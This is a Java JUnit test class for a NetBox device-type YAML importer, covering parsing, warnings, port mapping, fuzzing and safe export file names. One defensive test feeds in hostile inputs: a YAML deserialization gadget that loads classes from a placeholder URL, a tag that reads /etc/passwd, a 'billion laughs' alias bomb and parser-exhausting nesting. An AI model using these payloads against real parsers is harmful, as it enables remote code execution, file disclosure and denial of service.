package org.headend.catalog.netbox;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Random;

import org.eclipse.core.runtime.NullProgressMonitor;
import org.eclipse.core.runtime.OperationCanceledException;
import org.headend.catalog.DeviceType;
import org.headend.catalog.Tables;
import org.headend.catalog.netbox.NetboxImport.Options;
import org.headend.catalog.netbox.Note.Kind;
import org.headend.core.problem.Place;
import org.headend.core.problem.ProblemException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class NetboxImportTest {
    private static final NetboxImport IMPORT = new NetboxImport(Tables.builtIn(), Options.DEFAULT);
    private static final String HEAD = "manufacturer: Acme\nmodel: X\nslug: acme-x\nu_height: 1\nis_full_depth: false\n";

    @TempDir
    private Path folder;

    private static NetboxType parse(String text) {
        return IMPORT.parse(text, Place.of("a.yaml"));
    }

    private static DeviceType type(String text) {
        NetboxType result = parse(text);
        return result.type().orElseThrow(() -> new AssertionError(result.problem()));
    }

    private static boolean warned(String text, String subject) {
        return parse(text).notes(Kind.WARNED).stream().anyMatch(n -> n.subject().equals(subject));
    }

    @Test
    void scalarsStayTextWhateverYamlMakesOfThem() {
        DeviceType type = type("manufacturer: 3M\nmodel: 0123\nslug: x\nu_height: 0\nis_full_depth: no\npart_number: 1e3\n"
                + "interfaces:\n  - {name: on, type: 1000base-t}\n  - {name: 1:30, type: 1000base-t}\n  - {name: ~x, type: 1000base-t}\n  - {name: 0x10, type: 1000base-t}\n");
        assertEquals("3M/0123", type.id());
        assertEquals("1e3", type.spec().partNumber());
        assertEquals(List.of("on", "1:30", "~x", "0x10"), type.ports().stream().flatMap(p -> p.names().stream()).toList());
    }

    @Test
    void whatIsMissingOrWrongIsToldAndTheRestComes() {
        assertEquals("netbox.identity", parse("manufacturer: A\n").problem().orElseThrow().code());
        String text = "manufacturer: A\nmodel: B\nslug: A B\nu_height: 0.3\nweight: 3\ninterfaces:\n- {type: 1000base-t}\n- {name: e, type: warp-drive}\n- just text\n";
        for (String subject : List.of("slug", "u_height", "weight", "is_full_depth", "interfaces", "e")) {
            assertTrue(warned(text, subject), subject);
        }
        assertTrue(type(text).spec().notes().contains("warp-drive"));
        assertTrue(type(text).spec().notes().contains("just text") || type(text).spec().notes().contains("interfaces"));
    }

    @Test
    void doubledKeysAreTold() {
        assertTrue(warned(HEAD + "slug: other\n", "slug"));
    }

    @Test
    void namesThatStandTwiceAreToldApart() {
        DeviceType type = type(HEAD + "console-ports: [{name: USB, type: usb-a}]\ninterfaces: [{name: USB, type: 1000base-t},{name: USB, type: 1000base-t}]\n");
        List<String> names = type.ports().stream().flatMap(p -> p.names().stream()).toList();
        assertEquals(List.of("USB", "USB 2", "USB console"), names);
    }

    @Test
    void interfaceTypesBecomeKindsRatesAndConnectors() {
        String[][] cases = { { "100base-tx", "ETHERNET", "100.0", "rj45" }, { "2.5gbase-t", "ETHERNET", "2500.0", "rj45" }, { "10gbase-x-sfpp", "SFP", "10000.0", "sfp+" },
                { "40gbase-x-qsfpp", "SFP", "40000.0", "qsfp+" }, { "1000base-sx", "SFP", "1000.0", "fibre-lc" }, { "100base-fx", "SFP", "100.0", "fibre-lc" },
                { "1000base-lx", "SFP", "1000.0", "fibre-lc" }, { "10gbase-lr", "SFP", "10000.0", "fibre-lc" }, { "ieee802.15.4", "ZIGBEE", "0.0", "antenna" },
                { "ieee802.15.1", "BLUETOOTH", "0.0", "antenna" }, { "5g", "CELLULAR", "1000.0", "antenna" }, { "10base-t1l", "T1L", "10.0", "" } };
        for (String[] c : cases) {
            var port = type(HEAD + "interfaces: [{name: p, type: " + c[0] + "}]\n").ports().getFirst();
            assertEquals(List.of(c[1], c[2], c[3]), List.of(port.kind(), String.valueOf(port.spec().speedMbit()), port.spec().connector()), c[0]);
        }
        for (String none : List.of("virtual", "lag", "bridge", "10gbase-kr", "10gbase-cx4", "infiniband-hdr", "xdsl", "other")) {
            assertEquals(List.of(), type(HEAD + "interfaces: [{name: p, type: " + none + "}]\n").ports(), none);
        }
        assertEquals("RS485", type(HEAD + "interfaces: [{name: p, type: other, description: RS-485 bus}]\n").ports().getFirst().kind());
    }

    @Test
    void poeWithoutModeOrTypeIsUnknownNeverGuessed() {
        assertEquals("UNKNOWN", type(HEAD + "interfaces: [{name: p, type: 1000base-t, poe_type: type2-ieee802.3at}]\n").ports().getFirst().poe());
        var port = type(HEAD + "interfaces: [{name: p, type: 1000base-t, poe_mode: pd}]\n").ports().getFirst();
        assertEquals("POWERED", port.poe());
        assertEquals(-1, port.poeClass());
    }

    @Test
    void powerOfRedundantSuppliesCountsOnce() {
        DeviceType type = type(HEAD + "power-ports: [{name: A, type: iec-60320-c14, maximum_draw: 90},{name: B, type: iec-60320-c14, maximum_draw: 100}]\n");
        assertEquals(100, type.spec().power().watts());
        assertEquals("AC", type.spec().power().current());
    }

    @Test
    void attacksAreRefused() {
        for (String attack : List.of("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
                HEAD + "comments: !!java.io.File /etc/passwd\n", HEAD + "x: !foreign {a: 1}\n", "a: [\n", "- 1\n", "", "\0", "a: b\n---\nc: d\n", "{".repeat(100_000), "a: ".repeat(50_000))) {
            NetboxType result = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> parse(attack));
            assertTrue(result.type().isEmpty() && result.problem().isPresent(), attack.substring(0, Math.min(40, attack.length())));
        }
        StringBuilder laughs = new StringBuilder(HEAD + "a0: &a0 [x,x,x,x,x,x,x,x,x]\n");
        for (int i = 1; i < 12; i++) {
            laughs.append("a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ",").repeat(9) + "]\n");
        }
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> parse(laughs.toString()));
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> parse(HEAD + "a: &a [*a, *a]\n"));
    }

    @Test
    void aTooLargeFileIsRefusedBeforeItIsRead() throws Exception {
        Path file = Files.write(folder.resolve("big.yaml"), new byte[2 << 20]);
        assertTrue(IMPORT.read(file).problem().isPresent());
        assertTrue(IMPORT.read(folder.resolve("none.yaml")).problem().isPresent());
    }

    @Test
    void anyChangeOfAFileIsATypeOrAProblem() {
        Random random = new Random(11);
        String text = HEAD + "comments: |\n  12V DC\ninterfaces:\n  - name: 'eth0'\n    type: 1000base-t\n    poe_mode: pd\n  - name: w\n    type: ieee802.11ax\npower-ports:\n  - name: DC\n    type: dc-terminal\n    maximum_draw: 8\nrear-ports:\n  - name: r\n    type: 8p8c\n    positions: 2\n";
        String[] bits = { ":", "-", "  ", "\n", "'", "\"", "[", "]", "{", "}", "&a", "*a", "!!", "|", ">", "#", "\t", "%", "0", "é", "\ud83d\ude00", "- name: x\n" };
        int types = 0;
        for (int i = 0; i < 4_000; i++) {
            StringBuilder changed = new StringBuilder(text);
            for (int j = 1 + random.nextInt(4); j > 0; j--) {
                int at = random.nextInt(changed.length());
                switch (random.nextInt(3)) {
                    case 0 -> changed.insert(at, bits[random.nextInt(bits.length)]);
                    case 1 -> changed.deleteCharAt(at);
                    default -> changed.setCharAt(at, bits[random.nextInt(bits.length)].charAt(0));
                }
            }
            NetboxType result = parse(changed.toString());
            assertTrue(result.type().isPresent() != result.problem().isPresent());
            if (result.type().isPresent()) {
                types++;
                NetboxSchema.check("fuzz " + i, NetboxExport.yaml(result.type().get(), result.json()));
            }
        }
        assertTrue(types > 500, "only " + types);
    }

    @Test
    void portsBeyondTheFileAreReadBackAndEditsOfTheFileWin() {
        DeviceType type = type(HEAD + "interfaces: [{name: eth, type: 1000base-t}]\n");
        String yaml = NetboxExport.yaml(type, null);
        DeviceType edited = type(yaml.replace("model: X", "model: Y").replace("name: eth", "name: lan"));
        assertEquals("Acme/Y", edited.id());
        assertEquals(List.of("lan"), edited.ports().stream().flatMap(p -> p.names().stream()).toList());
        DeviceType spoiled = type(yaml.replace("Headend Studio: {", "Headend Studio: {{"));
        assertTrue(spoiled.spec().notes().contains("Headend Studio"), "what cannot be read stays a remark");
    }

    @Test
    void namesOfExportedFilesStayInTheirFolder() {
        DeviceType type = type("manufacturer: '../..'\nmodel: 'a/b:c*?'\nslug: x\nu_height: 0\nis_full_depth: false\n");
        assertEquals("-/a-b-c--.yaml", NetboxExport.fileName(type).replaceFirst("^[^/]*-[^/]*/", "-/"));
        assertTrue(!NetboxExport.fileName(type).contains(".."));
    }

    @Test
    void filesAreFoundByBothEndingsAndCancelIsObeyed() throws Exception {
        Files.createDirectories(folder.resolve("a b"));
        Files.writeString(folder.resolve("a b/x (1).yml"), HEAD);
        Files.writeString(folder.resolve("y.YAML"), HEAD);
        Files.writeString(folder.resolve("z.txt"), HEAD);
        List<Path> files = NetboxImport.files(List.of(folder));
        assertEquals(2, files.size());
        assertEquals(2, IMPORT.read(files, null).stream().filter(t -> t.type().isPresent()).count());
        NullProgressMonitor monitor = new NullProgressMonitor();
        monitor.setCanceled(true);
        assertThrows(OperationCanceledException.class, () -> IMPORT.read(files, monitor));
        assertThrows(ProblemException.class, () -> NetboxImport.files(List.of(folder.resolve("none"))));
    }
}
